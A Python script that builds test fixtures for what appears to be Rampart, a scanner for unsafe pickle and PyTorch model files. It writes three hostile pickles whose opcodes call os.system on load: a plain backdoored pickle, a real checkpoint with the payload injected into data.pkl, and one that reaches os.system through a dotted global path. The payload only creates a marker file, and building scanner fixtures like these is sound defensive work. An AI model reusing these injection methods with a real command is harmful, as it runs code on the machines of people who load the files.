#!/usr/bin/python3
"""Recreates the files in examples/ (run with Debian's /usr/bin/python3, which has torch, numpy and sklearn).

Every hostile example is inert unless loaded with an unsafe loader, and even then its payload only creates an
empty marker file, rampart-example-was-loaded, in the temporary folder. Nothing here is ever loaded by Rampart.
"""
import io
import os
import pickle
import struct
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
MARKER = "touch ${TMPDIR:-/tmp}/rampart-example-was-loaded"


def out(*parts):
    path = os.path.join(HERE, *parts)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    return path


def payload_opcodes():
    """Protocol-2 opcodes that call posix.system(MARKER) and drop the result: no PROTO, no STOP."""
    command = MARKER.encode()
    return (b"cposix\nsystem\n" + b"X" + struct.pack("<I", len(command)) + command
            + b"\x85" + b"R" + b"0")  # TUPLE1, REDUCE, POP


def clean_examples():
    import numpy as np
    import torch

    torch.manual_seed(0)
    layer = torch.nn.Linear(4, 2)
    torch.save(layer.state_dict(), out("clean", "linear_state_dict.pt"))
    np.save(out("clean", "embeddings.npy"), np.arange(12, dtype=np.float32).reshape(3, 4))
    with open(out("clean", "vocabulary.pkl"), "wb") as f:
        pickle.dump({"tokens": ["<pad>", "<unk>", "hello"], "ids": (0, 1, 2), "lower": True}, f, protocol=4)


def review_examples():
    from sklearn.linear_model import LogisticRegression
    import numpy as np

    model = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), np.array([0, 0, 1, 1]))
    with open(out("needs-review", "classifier.pkl"), "wb") as f:
        pickle.dump(model, f, protocol=4)


def hostile_examples():
    import torch

    # 1. A plain pickle that runs a shell command when loaded.
    with open(out("malicious", "backdoored.pkl"), "wb") as f:
        f.write(b"\x80\x02" + payload_opcodes() + b"}q\x00X\x05\x00\x00\x00modelq\x01X\x03\x00\x00\x00mlpq\x02s.")

    # 2. "Sleepy pickle": a real PyTorch checkpoint whose data.pkl runs the payload first, then returns the weights.
    buffer = io.BytesIO()
    torch.save(torch.nn.Linear(4, 2).state_dict(), buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    with zipfile.ZipFile(out("malicious", "sleepy_checkpoint.pt"), "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename.endswith("/data.pkl"):
                assert data[:2] == b"\x80\x02"
                data = data[:2] + payload_opcodes() + data[2:]
            target.writestr(info, data)

    # 3. The same payload hidden behind a dotted STACK_GLOBAL walk through an allowed-looking module (protocol 4).
    module, name = b"torch.serialization", b"os.system"
    command = MARKER.encode()
    body = (b"\x8c" + bytes([len(module)]) + module + b"\x94" + b"\x8c" + bytes([len(name)]) + name + b"\x94" + b"\x93"
            + b"\x8c" + bytes([len(command)]) + command + b"\x85" + b"R" + b".")
    with open(out("malicious", "dotted_global.pkl"), "wb") as f:
        f.write(b"\x80\x04" + b"\x95" + struct.pack("<Q", len(body)) + body)


def inconclusive_examples():
    # A pickle cut off in the middle of a string: no loader can finish it, and no scanner may call it clean.
    data = pickle.dumps({"weights": list(range(50))}, protocol=4)
    with open(out("inconclusive", "truncated.pkl"), "wb") as f:
        f.write(data[: len(data) // 2])


if __name__ == "__main__":
    clean_examples()
    review_examples()
    hostile_examples()
    inconclusive_examples()
    print("examples written under", HERE, file=sys.stderr)
